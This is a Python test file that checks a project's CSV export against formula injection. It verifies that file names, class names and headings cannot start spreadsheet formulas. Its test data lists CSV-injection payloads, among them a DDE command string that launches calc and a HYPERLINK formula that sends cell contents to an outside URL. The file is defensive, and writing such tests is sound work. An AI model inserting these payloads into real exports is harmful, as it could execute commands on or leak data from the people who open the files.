"""What strangers call their files and classes begins no formula in a spreadsheet; numbers stay numbers."""

import ast
import csv
import io
from pathlib import Path
from typing import Any

import pytest

from resnext_viz.inference.predictor.prediction import Answer, Prediction
from resnext_viz.kit.csv_file import csv_table, csv_text
from resnext_viz.training.run.metrics import write_metrics
from resnext_viz.training.run.run_folder import METRICS
from resnext_viz.ui.predict.answer_job import Answered, Answers
from resnext_viz.ui.predict.batch_section import csv_rows
from resnext_viz.ui.predict.folder_labels import truth_of
from resnext_viz.ui.predict.shown_picture import Photo

PACKAGE = Path(__file__).parents[2] / "resnext_viz"
# The signs of OWASP's page on CSV injection, the wide ones of Japanese keyboards among them.
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
HOSTILE = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t1", "\r=1+1", "\n=1+1", "=", "-", "-1_0", "+1,2", "-٣", "＝1+1",
    "-inf", "=1\r=2", "=1\n=2",
)  # fmt: skip


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_harmless(text: str, *words: str) -> None:
    """No cell begins a formula, and each of the words is there behind an apostrophe."""
    for cell in cells(text):
        assert not cell.startswith(SIGNS) or float(cell) < 0, cell
    assert {f"'{word}" for word in words} <= set(cells(text))


@pytest.mark.parametrize("word", HOSTILE)
def test_a_word_that_would_be_a_formula_is_text_in_a_cell_and_in_a_heading(word: str) -> None:
    assert_harmless(csv_text([{"file": word, word: 1}]), word)
    assert_harmless(csv_table([word, word], [[word, 1]]), word)


@pytest.mark.parametrize("delimiter", [";", "\t"])
@pytest.mark.parametrize("word", ["cat{}=1+1{}x.jpg", "{}=1+1", "{} +1", "a{}{}@SUM(1)", '=1{}"=2', "a{}'-2", "a{}＝1"])
def test_no_cell_begins_a_formula_where_another_sign_parts_the_cells(word: str, delimiter: str) -> None:
    text = csv_text([{"file": word.format(delimiter, delimiter), "share": 0.5}])
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        assert not [cell for cell in row if cell.strip(' "').startswith(SIGNS)]


@pytest.mark.parametrize(
    "value",
    [
        -0.5,
        -3,
        1e-7,
        -1e-7,
        0,
        "-0.5",
        "+3",
        "-.5e+3",
        True,
        None,
        "cat",
        "a=b",
        "1-2",
        "'x",
        "a\r=b",
        "a\n=b",
        "a\r\n=b",
    ],
)
def test_numbers_and_other_words_stay_as_they_are(value: Any) -> None:
    assert cells(csv_text([{"value": value}])) == ["value", "" if value is None else str(value)]


def test_a_row_that_lacks_a_column_has_an_empty_cell_there() -> None:
    assert list(csv.DictReader(io.StringIO(csv_text([{"a": 1}, {"a": 2, "b": -3.5}])))) == [
        {"a": "1", "b": ""},
        {"a": "2", "b": "-3.5"},
    ]


def test_answers_to_photos_of_hostile_names_by_a_network_of_hostile_classes() -> None:
    class Network:
        name, identity, classes, none_of_these = "@weights", "1431", ("=cat", "+dog"), None

    photo = Photo("a", "-2+3.jpg", b"", "=cat")
    answers = Answers(Network())  # type: ignore[arg-type]
    answers.photos = (photo,)
    top = (Answer("=cat", 0.7, 0), Answer("+dog", 0.3, 1))
    answers.answered = {"a": Answered(Prediction(photo.name, "CPU", "torch", top, 1.5, 40, 30))}
    text = csv_text(csv_rows(answers, truth_of((photo,), Network.classes)))
    assert_harmless(text, "@weights", "-2+3.jpg", "=cat", "+dog")


def test_a_table_of_metrics_keeps_its_figures(tmp_path: Path) -> None:
    write_metrics(tmp_path, [{"epoch": 1, "loss": -0.5, "class_accuracy": [0.25]}], ["=cat"])
    (row,) = csv.DictReader(io.StringIO((tmp_path / METRICS).read_text(encoding="utf-8")))
    assert row == {"epoch": "1", "loss": "-0.5", "accuracy of =cat": "0.25"}


def test_nobody_else_writes_csv() -> None:
    importing = {
        path.relative_to(PACKAGE).as_posix()
        for path in PACKAGE.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.Import) and any(alias.name in {"csv", "pandas"} for alias in node.names)
    }
    assert importing == {"kit/csv_file.py"}
